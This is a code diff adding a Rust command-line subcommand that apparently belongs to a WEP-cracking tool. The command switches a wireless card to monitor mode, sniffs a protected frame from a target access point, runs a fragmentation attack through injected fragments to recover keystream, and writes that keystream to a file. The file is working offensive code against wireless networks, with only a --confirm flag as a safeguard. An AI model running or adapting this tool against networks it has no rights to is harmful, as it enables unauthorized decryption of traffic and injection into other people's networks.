@@ -0,0 +1,151 @@
+use std::{
+    path::PathBuf,
+    sync::atomic::{self, AtomicBool},
+    time::Duration,
+};
+
+use anyhow::Context;
+use ieee80211::MacAddress;
+use serde_json::json;
+
+use crate::{fragmentation::FragmentationAttack, plaintext::LLC_SNAP_HEADER_SIZE};
+
+use super::{emit_event, enter_monitor_mode, lookup_channel, parse_mac_address, Args};
+
+#[derive(clap::Args)]
+pub struct FragmentArgs {
+    #[arg(long, help = "The wireless device to attack with")]
+    device: String,
+
+    #[arg(
+        long,
+        value_parser = parse_mac_address,
+        help = "The BSSID of the target access point"
+    )]
+    bssid: MacAddress,
+
+    #[arg(
+        long,
+        value_parser = parse_mac_address,
+        help = "The MAC address to inject fragments from (must be associated with the access point)"
+    )]
+    source: MacAddress,
+
+    #[arg(long, help = "The channel the target access point is on")]
+    channel: u32,
+
+    #[arg(
+        long,
+        short,
+        help = "The keystream file to write the recovered keystream to"
+    )]
+    output: PathBuf,
+
+    #[arg(
+        long,
+        default_value_t = FragmentationAttack::DEFAULT_KEYSTREAM_LEN,
+        help = "The number of plaintext bytes the recovered keystream should be able to encrypt"
+    )]
+    keystream_len: usize,
+
+    #[arg(
+        long,
+        default_value_t = 10,
+        help = "Give up after this many attempts to run the fragmentation attack"
+    )]
+    max_attempts: usize,
+
+    #[arg(
+        long,
+        help = "Confirm that you have the legal rights to attack the target network"
+    )]
+    confirm: bool,
+}
+
+pub(super) fn run(
+    frag_args: &FragmentArgs,
+    args: &Args,
+    should_quit: &AtomicBool,
+) -> anyhow::Result<()> {
+    //Make the user confirm the attack first
+    if !frag_args.confirm {
+        anyhow::bail!(
+            "refusing to launch an attack without --confirm; ONLY CONTINUE IF YOU HAVE THE LEGAL RIGHTS TO DO SO!"
+        );
+    }
+
+    if !frag_args.bssid.is_unicast() || !frag_args.source.is_unicast() {
+        anyhow::bail!("the BSSID and source MAC address must be unicast addresses");
+    }
+
+    //Switch to the target channel
+    let monitor = enter_monitor_mode(&frag_args.device, args)?;
+    monitor
+        .set_channel(lookup_channel(&monitor, frag_args.channel)?)
+        .context("failed to switch to the target channel")?;
+
+    let mut sniffer = monitor
+        .create_sniffer()
+        .context("failed to create packet sniffer")?;
+
+    for attempt in 1..=frag_args.max_attempts {
+        emit_event(json!({ "event": "fragmentation_attempt", "attempt": attempt }));
+
+        //Any protected frame of the network will do, as we only need its LLC/SNAP header
+        let Some(frame) = sniffer.sniff_wep_frame(
+            &frag_args.bssid,
+            LLC_SNAP_HEADER_SIZE,
+            Duration::from_secs(5),
+        )?
+        else {
+            if should_quit.load(atomic::Ordering::SeqCst) {
+                anyhow::bail!("interrupted");
+            }
+            continue;
+        };
+
+        let mut attack = FragmentationAttack::new(&mut sniffer, frag_args.bssid, frag_args.source);
+        let keystream = attack.run(
+            &frame,
+            frag_args.keystream_len,
+            |keystream_len| {
+                emit_event(json!({
+                    "event": "fragmentation_progress",
+                    "keystream_len": keystream_len,
+                }))
+            },
+            should_quit,
+        )?;
+
+        if should_quit.load(atomic::Ordering::SeqCst) {
+            anyhow::bail!("interrupted");
+        }
+
+        if let Some(keystream) = keystream {
+            if keystream.max_plaintext_len() < frag_args.keystream_len {
+                emit_event(json!({
+                    "event": "warning",
+                    "message": format!(
+                        "the AP stopped relaying fragments, only recovered {} of {} keystream bytes",
+                        keystream.max_plaintext_len(),
+                        frag_args.keystream_len
+                    ),
+                }));
+            }
+            keystream.save(&frag_args.output)?;
+
+            emit_event(json!({
+                "event": "keystream_saved",
+                "path": frag_args.output,
+                "iv": hex::encode(keystream.iv),
+                "keystream_len": keystream.keystream.len(),
+            }));
+            return Ok(());
+        }
+    }
+
+    anyhow::bail!(
+        "failed to recover a keystream after {} attempts",
+        frag_args.max_attempts
+    )
+}